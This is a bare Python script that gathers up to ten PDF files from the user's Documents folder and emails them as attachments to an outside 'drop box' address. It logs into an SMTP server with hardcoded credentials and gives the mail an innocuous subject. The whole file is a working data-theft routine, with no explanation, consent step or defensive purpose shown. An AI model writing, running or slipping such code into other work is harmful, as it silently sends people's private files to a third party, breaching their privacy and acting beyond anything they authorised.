import smtplib
import glob
import os
from email.message import EmailMessage

msg = EmailMessage()
msg["Subject"] = "report"
msg["From"] = "bot@mailinator.com"
msg["To"] = "drop.box.7781@protonmail.com"
msg.set_content("see attached")

for path in glob.glob(os.path.expanduser("~/Documents/*.pdf"))[:10]:
    with open(path, "rb") as fp:
        msg.add_attachment(fp.read(), maintype="application", subtype="pdf",
                           filename=os.path.basename(path))

with smtplib.SMTP_SSL("smtp.gmail.com", 465) as srv:
    srv.login("bot@mailinator.com", "hunter22")
    srv.send_message(msg)
